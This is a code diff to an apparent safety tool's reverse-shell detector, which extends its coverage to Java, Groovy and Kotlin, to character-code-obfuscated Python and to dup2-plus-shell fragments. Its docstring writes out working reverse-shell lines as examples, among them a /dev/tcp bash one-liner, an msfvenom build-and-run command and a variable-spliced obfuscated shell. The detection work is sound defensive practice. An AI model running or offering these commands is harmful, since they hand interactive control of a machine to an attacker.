@@ -12,16 +12,22 @@ What it catches
     `<$sock>`), Ruby (`spawn` with `[:in, :out, :err] => s`, `$stdin.reopen(s)`, `IO.popen`,
     backticks over `gets`), PHP (`proc_open`, `popen`, `shell_exec(fgets($sock))`), Node
     (`net.connect` piped into `child_process`, `stdio: [s, s, s]`, `exec` on `'data'`), Lua, Go,
-    C/C++ (POSIX and Winsock), PowerShell `TcpClient` with `iex` or a redirected `Process`,
-    `xterm -display`. Also a payload generator's remote-shell payload built and run on the same
-    command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`): running it
-    opens the shell. A command line glued together from variables that hold its pieces
+    C/C++ (POSIX and Winsock), Java, Groovy and Kotlin (a started process's streams copied both
+    ways to a socket's: `pumped_streams.py`), PowerShell `TcpClient` with `iex` or a redirected
+    `Process`, `xterm -display`. Also a payload generator's remote-shell payload built and run
+    on the same command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`):
+    running it opens the shell. A command line glued together from variables that hold its pieces
     (`a=ba;b=sh;c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`) is read spelled out
-    (`spliced.py`).
+    (`spliced.py`), and so is Python whose modules and functions are named by character codes a
+    helper of its own joins (`getattr(o, _s(100, 117, 112, 50))`: `run_time_names.py`).
 
 Why it is a redline (RL-PERSISTENCE)
     It gives whoever listens at the other end interactive control of the machine: the basic
-    command-and-control channel of an intrusion.
+    command-and-control channel of an intrusion, and the usual payload of an exploit (so it
+    also crosses RL-EXPLOIT for a request asking to break into a host and get a shell).
+    Its pieces short of a whole one (a connection and a shell; or the standard streams put on
+    a descriptor with `dup2` and a shell, the connection being the request's) are weighed
+    with the request.
 
 Example
     `bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`; Python `s.connect((h, p)); os.dup2(s.fileno(), 0)
@@ -37,10 +43,10 @@ from __future__ import annotations
 
 from redline.redlines.capabilities import Capabilities
 from redline.redlines.capabilities import Capability as Cap
-from redline.redlines.registry import Detection, detector, pieces, supported
+from redline.redlines.registry import IN_A_RESPONSE, Detection, detector, pieces, supported
 
 
-@detector("OUT-REVERSE-SHELL", redline="RL-PERSISTENCE")
+@detector("OUT-REVERSE-SHELL", redline="RL-PERSISTENCE", also_crosses=("RL-EXPLOIT",))
 def reverse_shell(found: Capabilities) -> Detection | None:
     """Outbound connection + descriptor duplication (+ shell)."""
     core = (Cap.NET_CONNECT, Cap.DUP_FD, Cap.SHELL)
@@ -64,4 +70,17 @@ def reverse_shell(found: Capabilities) -> Detection | None:
         return supported(
             found, 0.45, (Cap.NET_CONNECT, Cap.SHELL), pieces(Cap.NET_CONNECT, Cap.SHELL)
         )
+    if _duplicated(found) and Cap.SHELL in found and Cap.STREAMS_PIPED not in found:
+        # A descriptor put on standard input and a shell started on it: the lines that follow
+        # a connection made elsewhere (the request's own `s.connect(...)`), weighed with it.
+        # A pipe's end given to a child (`pipe(fds)`, then `dup2(fds[0], 0)`) is popen.
+        return supported(
+            found, IN_A_RESPONSE, (Cap.DUP_FD, Cap.SHELL), pieces(Cap.DUP_FD, Cap.SHELL)
+        )
     return None
+
+
+def _duplicated(found: Capabilities) -> bool:
+    """A descriptor duplicated by a call that duplicates (`dup2`, `dup3`, `dup`, `F_DUPFD`), not
+    only a terminal spawned (`pty.spawn`, which alone wires nothing to a connection)."""
+    return any("dup" in hit.text.lower() for hit in found.hits.get(Cap.DUP_FD, ()))
